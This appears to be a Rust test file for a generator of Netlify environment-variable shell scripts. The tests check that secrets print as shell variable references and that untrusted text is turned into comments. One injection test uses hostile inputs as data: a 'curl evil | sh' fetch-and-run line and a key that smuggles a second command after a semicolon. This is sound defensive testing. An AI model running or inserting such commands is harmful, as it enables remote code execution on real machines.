use super::*;

fn printed(changes: &[Change]) -> Vec<String> {
    let tokens = [(Stage::Staging, "STAGING_TOKEN".to_owned())].into();
    let given = changes.iter().flat_map(|change| {
        let sent = change.sent_values().into_iter();
        sent.map(|(context, _)| (change.key(), context))
    });
    printed_with(changes, given.collect(), &tokens)
}

fn printed_with(
    changes: &[Change],
    given: BTreeSet<(&str, &DeployContext)>,
    tokens: &BTreeMap<Stage, String>,
) -> Vec<String> {
    let mut script = Script {
        has_scopes: true,
        given,
        stage_of: &|context| match context {
            DeployContext::Production => Some(Stage::Production),
            DeployContext::Branch(_) => Some(Stage::Staging),
            _ => None,
        },
        tokens,
        unset: BTreeSet::new(),
        inputs: BTreeMap::new(),
        lines: Vec::new(),
    };
    for change in changes {
        script.add(change);
    }
    script.lines
}

fn both(is_secret: bool, key: &str) -> Change {
    Change::Create {
        key: key.to_owned(),
        is_secret,
        values: vec![
            (DeployContext::Branch("staging".to_owned()), "c4n4ry".into()),
            (DeployContext::Production, "it's".into()),
        ],
    }
}

#[test]
fn scope_is_set_with_the_first_value_alone() {
    assert_eq!(
        printed(&[both(false, "STAGELINK_POOLER")]),
        [
            "netlify env:set STAGELINK_POOLER c4n4ry --context branch:staging --force \
             --scope functions",
            r"netlify env:set STAGELINK_POOLER 'it'\''s' --context production --force",
        ]
    );
}

#[test]
fn value_that_goes_is_gone_before_its_variable_becomes_a_secret() {
    let change = Change::Replace {
        key: "STAGELINK_CREDENTIALS".to_owned(),
        is_secret: true,
        values: vec![(DeployContext::Production, "c4n4ry".into())],
        removed: vec![DeployContext::All],
    };
    assert_eq!(
        printed(&[change]),
        [
            "netlify env:unset STAGELINK_CREDENTIALS --force",
            "netlify env:set STAGELINK_CREDENTIALS \"$STAGELINK_CREDENTIALS_PRODUCTION\" --context \
             production --secret --force --scope functions",
        ]
    );
    let change = Change::Replace {
        key: "STAGELINK_CREDENTIALS".to_owned(),
        is_secret: true,
        values: vec![(DeployContext::Production, "c4n4ry".into())],
        removed: vec![DeployContext::DeployPreview],
    };
    assert_eq!(
        printed(&[change]),
        [
            "netlify env:unset STAGELINK_CREDENTIALS --context deploy-preview --force",
            "netlify env:set STAGELINK_CREDENTIALS --secret --scope functions --force",
            "netlify env:set STAGELINK_CREDENTIALS \"$STAGELINK_CREDENTIALS_PRODUCTION\" --context \
             production --secret --force",
        ]
    );
}

#[test]
fn value_of_all_contexts_goes_with_its_variable_and_the_others_are_set_again() {
    let unset = |key: &str, context, rest: &[(DeployContext, &str)]| Change::Unset {
        key: key.to_owned(),
        id: "1".to_owned(),
        context,
        scopes: Vec::new(),
        rest: rest
            .iter()
            .map(|(context, text)| (context.clone(), (*text).into()))
            .collect(),
    };
    let staging = DeployContext::Branch("staging".to_owned());
    let changes = [
        unset("DATABASE_URL", DeployContext::All, &[(staging, "c4n4ry")]),
        unset(
            "OTHER_URL",
            DeployContext::DeployPreview,
            &[(DeployContext::All, "never")],
        ),
    ];
    assert_eq!(
        printed(&changes),
        [
            "netlify env:unset DATABASE_URL --force",
            "netlify env:set DATABASE_URL \"$DATABASE_URL_BRANCH_STAGING\" --context \
             branch:staging --force",
            "netlify env:unset OTHER_URL --force",
            "netlify env:set OTHER_URL \"$OTHER_URL_ALL\" --context all --force",
        ]
    );
}

#[test]
fn secret_that_the_site_shows_is_not_printed() {
    for key in [
        "STAGELINK_CREDENTIALS",
        "STAGELINK_CREDENTIALS_PRODUCTION",
        "STAGELINK_SEALED",
        "STAGELINK_POSTGRES",
        "STAGELINK_POOLER",
        TOKEN,
    ] {
        let change = both(false, key);
        let text = printed_with(&[change], BTreeSet::new(), &BTreeMap::new()).join("\n");
        assert!(!text.contains("c4n4ry"), "{text}");
        assert!(
            text.contains(&format!("\"${key}_BRANCH_STAGING\"")),
            "{text}"
        );
    }
}

/// The operator's own token is in a shell variable of the token's name.
#[test]
fn kept_token_is_not_the_operators() {
    let staging = DeployContext::Branch("staging".to_owned());
    let preview = DeployContext::DeployPreview;
    let replaced = |removed| Change::Replace {
        key: TOKEN.to_owned(),
        is_secret: true,
        values: vec![
            (preview.clone(), "given".into()),
            (staging.clone(), "kept".into()),
        ],
        removed,
    };
    let tokens = [(Stage::Review, "REVIEW_TOKEN".to_owned())].into();
    for removed in [Vec::new(), vec![DeployContext::All]] {
        let is_whole = !removed.is_empty();
        let given = BTreeSet::from([(TOKEN, &preview)]);
        let text = printed_with(&[replaced(removed)], given, &tokens).join("\n");
        assert!(!text.contains("\"$HEROKU_API_KEY\""), "{text}");
        let kept = text.contains("\"$HEROKU_API_KEY_BRANCH_STAGING\"");
        assert_eq!(kept, is_whole, "{text}");
    }
}

#[test]
fn each_kept_value_has_a_shell_variable_of_its_own() {
    let change = Change::Create {
        key: "OTHER".to_owned(),
        is_secret: false,
        values: vec![
            (DeployContext::BranchDeploy, "1".into()),
            (DeployContext::Branch("deploy".to_owned()), "2".into()),
        ],
    };
    let text = printed(&[change]).join("\n");
    assert!(text.contains("\"$OTHER_BRANCH_DEPLOY\""), "{text}");
    assert!(text.contains("\"$OTHER_BRANCH_DEPLOY_\""), "{text}");
}

#[test]
fn text_from_elsewhere_is_one_comment_and_no_command() {
    assert_eq!(comment("a\ncurl evil\r| sh"), "# a curl evil | sh");
    let change = Change::Create {
        key: "A; curl evil".to_owned(),
        is_secret: false,
        values: vec![(DeployContext::All, "1".into())],
    };
    let lines = printed(&[change]);
    assert!(lines.iter().all(|line| line.starts_with("# ")), "{lines:?}");
}

#[test]
fn secret_is_named_and_not_printed() {
    let lines = printed(&[
        both(true, "STAGELINK_CREDENTIALS"),
        both(true, "HEROKU_API_KEY"),
    ]);
    let text = lines.join("\n");
    assert!(!text.contains("c4n4ry"), "{text}");
    for words in [
        "STAGELINK_CREDENTIALS \"$STAGELINK_CREDENTIALS_STAGING\" --context branch:staging --secret",
        "STAGELINK_CREDENTIALS \"$STAGELINK_CREDENTIALS_PRODUCTION\" --context production --secret",
        "HEROKU_API_KEY \"$STAGING_TOKEN\" --context branch:staging --secret",
    ] {
        assert!(text.contains(words), "{words} is not in\n{text}");
    }
}
